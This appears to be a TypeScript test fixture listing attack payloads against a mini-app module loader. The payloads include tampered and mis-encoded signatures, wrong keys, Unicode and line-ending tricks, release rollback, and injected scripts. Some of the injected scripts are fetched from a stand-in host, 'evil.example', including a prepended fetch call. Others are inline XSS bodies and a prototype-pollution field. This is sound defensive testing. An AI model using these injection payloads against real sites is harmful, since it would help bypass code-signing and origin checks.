import { generateKeyPairSync, sign, type KeyObject } from 'node:crypto';
import type { MiniAppSection, SlotName } from '../../../core/mini-apps/mini-app-section.ts';
import { signedText } from '../../../core/mini-apps/signed-module.ts';

/** Where an application of level A of another team lies. */
export const BASE = 'https://apps.example';
const EVIL = 'https://evil.example';
const CODE = 'export function mount() { return "PWN"; }';

const curve = (namedCurve: string) => generateKeyPairSync('ec', { namedCurve });
type Pair = ReturnType<typeof curve>;
const spki = (key: KeyObject): string => key.export({ type: 'spki', format: 'der' }).toString('base64');

const OWN = curve('P-256');
const OTHER = curve('P-256');
const LONGER = curve('P-384');
const RSA = generateKeyPairSync('rsa', { modulusLength: 2048 });
export const KEY: string = spki(OWN.publicKey);

interface Signing {
  readonly code?: string;
  readonly release?: number;
  readonly section?: MiniAppSection;
  readonly by?: Pair;
  readonly text?: string;
  readonly dsaEncoding?: 'ieee-p1363' | 'der';
}

function signatureOf({ code = CODE, release = 5, section = 'cyber', by = OWN, ...how }: Signing = {}): string {
  const { text = signedText(section, { code, release }), dsaEncoding = 'ieee-p1363' } = how;
  return sign('sha256', Buffer.from(text), { key: by.privateKey, dsaEncoding }).toString('base64');
}

const GOOD = { appName: 'cyber', title: 'x', body: '<p>A</p>', styles: [] };
/** What nobody has to refuse. */
export const SIGNED = { ...GOOD, codeToEval: CODE, codeRelease: 5, codeSignature: signatureOf() } as const;
const signed = (how: Signing) => ({
  ...SIGNED,
  codeToEval: how.code ?? CODE,
  codeRelease: how.release ?? 5,
  codeSignature: signatureOf(how),
});
const bytes = Buffer.from(SIGNED.codeSignature, 'base64');
const flipped = (at: number): string =>
  Buffer.from(bytes.map((byte, index) => (index === at ? byte ^ 1 : byte))).toString('base64');
const { codeSignature: _unsigned, ...UNSIGNED } = SIGNED;

export interface ModuleAttack {
  readonly name: string;
  readonly payload: unknown;
  readonly key?: string | undefined;
  readonly slot?: SlotName;
  /** The page of the slot. */
  readonly path?: string;
  /** What the application has answered with before. */
  readonly before?: unknown;
  /** That may be answered, if nothing of it comes along. */
  readonly isHarmless?: boolean;
}

/** What the signature, and what is signed, can be made into. */
const OF_SIGNATURES: readonly ModuleAttack[] = [
  { name: 'no signature', payload: UNSIGNED },
  { name: 'an empty signature', payload: { ...SIGNED, codeSignature: '' } },
  { name: 'the signature of nothing', payload: { ...SIGNED, codeSignature: Buffer.alloc(64).toString('base64') } },
  { name: 'a signature that is no Base64', payload: { ...SIGNED, codeSignature: '%%' } },
  { name: 'a changed first byte of the signature', payload: { ...SIGNED, codeSignature: flipped(0) } },
  { name: 'a changed last byte of the signature', payload: { ...SIGNED, codeSignature: flipped(63) } },
  { name: 'half a signature', payload: { ...SIGNED, codeSignature: bytes.subarray(0, 32).toString('base64') } },
  {
    name: 'a longer signature',
    payload: { ...SIGNED, codeSignature: Buffer.concat([bytes, Buffer.alloc(1)]).toString('base64') },
  },
  { name: 'another form of signature', payload: { ...SIGNED, codeSignature: signatureOf({ dsaEncoding: 'der' }) } },
  { name: 'a signature of another key', payload: { ...SIGNED, codeSignature: signatureOf({ by: OTHER }) } },
  { name: 'a signature of another curve', payload: { ...SIGNED, codeSignature: signatureOf({ by: LONGER }) } },
  { name: 'the code of another section', payload: signed({ section: 'office' }) },
  { name: 'code that is signed by itself', payload: { ...SIGNED, codeSignature: signatureOf({ text: CODE }) } },
  {
    name: 'code that is signed as it once was',
    payload: { ...SIGNED, codeSignature: signatureOf({ text: `mini application module 1\ncyber\n${CODE}` }) },
  },
  { name: 'a changed letter', payload: { ...SIGNED, codeToEval: CODE.replace('mount', 'mounT') } },
  { name: 'a space at the end', payload: { ...SIGNED, codeToEval: `${CODE} ` } },
  { name: 'a line before', payload: { ...SIGNED, codeToEval: `fetch("${EVIL}/PWN");\n${CODE}` } },
  { name: 'an unseen letter', payload: { ...SIGNED, codeToEval: `${CODE}\0` } },
  { name: 'the mark of an order of bytes', payload: { ...SIGNED, codeToEval: `\uFEFF${CODE}` } },
  { name: 'other ends of lines', payload: { ...signed({ code: `${CODE}\n` }), codeToEval: `${CODE}\r\n` } },
  { name: 'a letter in two parts', payload: { ...signed({ code: `${CODE}é` }), codeToEval: `${CODE}e\u0301` } },
  { name: 'half a letter', payload: { ...signed({ code: `${CODE}\uFFFD` }), codeToEval: `${CODE}\uD800` } },
  { name: 'a later release', payload: { ...SIGNED, codeRelease: 6 } },
  { name: 'an earlier release', payload: { ...SIGNED, codeRelease: 4 } },
];

const OF_KEYS: readonly ModuleAttack[] = [
  { name: 'no key of the operator', payload: SIGNED, key: undefined },
  { name: 'an empty key', payload: SIGNED, key: '' },
  { name: 'a key that is none', payload: SIGNED, key: 'AAAA' },
  { name: 'a key of another curve', payload: signed({ by: LONGER }), key: spki(LONGER.publicKey) },
  {
    name: 'a key of RSA',
    payload: {
      ...SIGNED,
      codeSignature: sign(
        'sha256',
        Buffer.from(signedText('cyber', { code: CODE, release: 5 })),
        RSA.privateKey,
      ).toString('base64'),
    },
    key: spki(RSA.publicKey),
  },
];

/** What else of a payload could bring code along, or say what is not its to say. */
const OF_PAYLOADS: readonly ModuleAttack[] = [
  {
    name: 'code for a release',
    payload: { ...signed({ code: `2\n${CODE}` }), codeToEval: CODE, codeRelease: '5\n2' },
  },
  { name: 'an older release again', payload: signed({ release: 4 }), before: SIGNED },
  { name: 'a release of another type', payload: { ...SIGNED, codeRelease: '5' } },
  { name: 'a release below 0', payload: signed({ release: -1 }) },
  { name: 'a release between two', payload: signed({ release: 5.5 }) },
  { name: 'a release beyond what is counted', payload: signed({ release: 2 ** 60 }) },
  { name: 'a signature of another type', payload: { ...SIGNED, codeSignature: [SIGNED.codeSignature] } },
  { name: 'code of another type', payload: { ...SIGNED, codeToEval: [CODE] } },
  { name: 'a script besides', payload: { ...SIGNED, headScripts: [{ text: 'PWN' }] } },
  { name: 'a script of its own origin besides', payload: { ...SIGNED, scriptsToLoad: [`${BASE}/PWN.js`] } },
  { name: 'a script of its own origin in the head', payload: { ...SIGNED, headScripts: [{ src: `${BASE}/PWN.js` }] } },
  { name: 'a script of elsewhere besides', payload: { ...SIGNED, scriptsToLoad: [`${EVIL}/PWN.js`] } },
  { name: 'scripts alone', payload: { ...GOOD, scriptsToLoad: [`${BASE}/PWN.js`] } },
  { name: 'a script in the head alone', payload: { ...GOOD, headScripts: [{ text: 'PWN' }] } },
  { name: 'a script of this site', payload: { ...GOOD, scriptsToLoad: ['/assets/PWN.js'] } },
  { name: 'a script in an address', payload: { ...GOOD, scriptsToLoad: ['data:text/javascript,PWN'] } },
  { name: 'a script of a blob', payload: { ...GOOD, scriptsToLoad: [`blob:${BASE}/PWN`] } },
  { name: 'a script without a scheme', payload: { ...GOOD, scriptsToLoad: ['//evil.example/PWN.js'] } },
  { name: 'a script without protection', payload: { ...GOOD, scriptsToLoad: ['http://apps.example/PWN.js'] } },
  { name: 'a script of another port', payload: { ...GOOD, scriptsToLoad: [`${BASE}:8443/PWN.js`] } },
  { name: 'a script behind a user', payload: { ...GOOD, scriptsToLoad: ['https://apps.example@evil.example/PWN.js'] } },
  { name: 'a sheet of elsewhere', payload: { ...SIGNED, cssToLoad: [{ href: `${EVIL}/PWN.css` }] } },
  { name: 'no name', payload: { ...SIGNED, appName: '' } },
  { name: 'a name that is inherited', payload: { ...SIGNED, appName: undefined, ['__proto__']: { appName: 'cyber' } } },
  { name: 'a list', payload: [SIGNED] },
  { name: 'too much', payload: { ...SIGNED, body: 'x'.repeat(1_100_000) } },
  { name: 'a script in what it shows', payload: { ...GOOD, body: '<p>A<script>PWN</script></p>' }, isHarmless: true },
  { name: 'a listener in what it shows', payload: { ...GOOD, body: '<p onclick="PWN">A</p>' }, isHarmless: true },
  {
    name: 'an address in its styles',
    payload: { ...GOOD, styles: [{ cssText: '.a{background:url(//PWN)}' }] },
    isHarmless: true,
  },
  {
    name: 'a section of level B',
    payload: { ...signed({ section: 'home-showcase' }), isolationLevel: 'A' },
    slot: 'home-showcase',
    path: '/ru',
    isHarmless: true,
  },
  {
    name: 'a section of level C',
    payload: { ...signed({ section: 'betting' }), isolationLevel: 'A' },
    slot: 'betting-picks',
    path: '/ru/line/football/1/1',
  },
  { name: 'a page without the slot', payload: SIGNED, path: '/ru/results' },
  { name: 'a page in another language', payload: SIGNED, path: '/en/cyber/real' },
];

export const MODULE_ATTACKS: readonly ModuleAttack[] = [...OF_SIGNATURES, ...OF_KEYS, ...OF_PAYLOADS];

/** Those that the page must refuse itself, whatever its server let through. */
export const SIGNATURE_ATTACKS: readonly ModuleAttack[] = [...OF_SIGNATURES, ...OF_KEYS.slice(1)];
